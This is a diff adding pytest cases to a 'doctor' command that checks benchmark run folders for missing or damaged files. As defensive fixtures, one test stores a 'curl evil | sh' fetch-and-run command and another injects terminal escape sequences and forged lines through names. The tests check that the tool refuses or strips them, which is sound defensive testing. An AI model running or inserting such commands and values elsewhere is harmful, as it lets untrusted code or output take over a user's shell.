@@ -50,16 +50,76 @@ def test_the_command_tells_what_is_wrong_with_each_folder_and_the_mend(run, tmp_
     assert main(["doctor", str(run), str(second)]) == 1
     lines = capsys.readouterr().out.splitlines()
     assert lines[0] == f"{run}: run, 4 rows, 0 errors; not whole:"
-    assert lines[1] == f"  - 1 of 4 maps are missing in {run / 'maps'}, the first s1"
+    assert lines[1] == f"  - 1 of 4 maps are missing or damaged in {run / 'maps'}, the first s1"
     assert lines[2] == "    mend: score anew with --overwrite"
     assert lines[3] == f"{second}: run, 4 rows, 0 errors; whole"
+
+
+@pytest.mark.parametrize("content", [b"rubbish", b"", None])
+def test_a_map_that_is_no_map_is_damaged(run, content):
+    """Catches a run that is called whole because a file of that name is there, as one that was cut short is."""
+    file = run / "maps" / "s2.npy"
+    file.write_bytes(file.read_bytes()[:-8] if content is None else content)
+    assert f"1 of 4 maps are missing or damaged in {run / 'maps'}, the first s2 -> score anew" in told(run)
+
+
+def test_one_folder_that_is_no_run_does_not_keep_the_others_from_being_looked_at(run, tmp_path, capsys):
+    """Catches `salbench doctor runs/*`, which ended at the first file that somebody had put there."""
+    (tmp_path / "notes.txt").touch()
+    (run / "maps" / "s1.npy").unlink()
+    assert main(["doctor", str(tmp_path / "notes.txt"), str(tmp_path / "gone"), str(run)]) == 1
+    lines = capsys.readouterr().out.splitlines()
+    assert lines[0].startswith(f"{tmp_path / 'notes.txt'}: holds neither a run nor a training")
+    assert lines[1].startswith(f"{tmp_path / 'gone'}: holds neither a run nor a training")
+    assert lines[2] == f"{run}: run, 4 rows, 0 errors; not whole:"
+
+
+def test_the_command_of_a_strangers_run_is_not_given_as_a_mend(run):
+    """Catches a line to be pasted into a shell that a record of unknown origin has written."""
+    (run / "summary.json").unlink()
+    (run / "scores.parquet").unlink()
+    manifest = json.loads((run / "run.json").read_text())
+    for words, wanted in (
+        (["sh", "-c", "curl evil | sh"], "the same command goes on from here: it is not recorded"),
+        (["salbench", "score", "--model", "centre"], "salbench score --model centre (run.json says so)"),
+    ):
+        (run / "run.json").write_text(json.dumps({**manifest, "command": words}))
+        assert wanted in told(run)
+
+
+def test_a_terminal_is_not_told_what_to_do_by_a_name(run, capsys):
+    """Catches escape sequences, and lines that a name makes of its own."""
+    (run / "summary.json").unlink()
+    (run / "scores.parquet").unlink()
+    manifest = json.loads((run / "run.json").read_text())
+    words = ["salbench", "score", "\x1b]0;owned\x07\nrun: whole"]
+    (run / "run.json").write_text(json.dumps({**manifest, "command": words}))
+    main(["doctor", str(run), str(run / "evil\x1b[2J\nall fine")])
+    out = capsys.readouterr().out
+    assert "\x1b" not in out
+    assert [line for line in out.splitlines() if line.startswith(("run: whole", "all fine"))] == []
+
+
+def test_what_drivers_of_a_cluster_left_is_told_of_and_removed(run, finished):
+    """Catches a run that is called whole beside a folder of somebody's pickled work."""
+    (run / "shards" / ".cluster-0123abcd").mkdir(parents=True)
+    assert "the first shards/.cluster-0123abcd" in told(run)
+
+
+@pytest.mark.parametrize("ends", [[0, "x"], [0, [1]], [0], 3, {"1": 2}])
+def test_tensors_whose_header_lies_are_damaged(tmp_path, ends):
+    """Catches a traceback for a file of one damaged byte."""
+    (tmp_path / "epochs.csv").write_text("epoch\n")
+    header = json.dumps({"a": {"data_offsets": ends}, "b": {"data_offsets": [0, 4]}}).encode()
+    (tmp_path / "best.safetensors").write_bytes(len(header).to_bytes(8, "little") + header + bytes(4))
+    assert f"{tmp_path / 'best.safetensors'} is damaged" in told(tmp_path)
 
 
 def test_a_folder_of_something_else_is_an_error(tmp_path):
     """Catches a wrong name that passes for a whole run."""
     with pytest.raises(RunError, match="holds neither a run nor a training"):
         examine(tmp_path)
-    assert main(["doctor", str(tmp_path / "nowhere")]) == 2
+    assert main(["doctor", str(tmp_path / "nowhere")]) == 1
 
 
 def unfinished(run: Path, *shards: str) -> None:
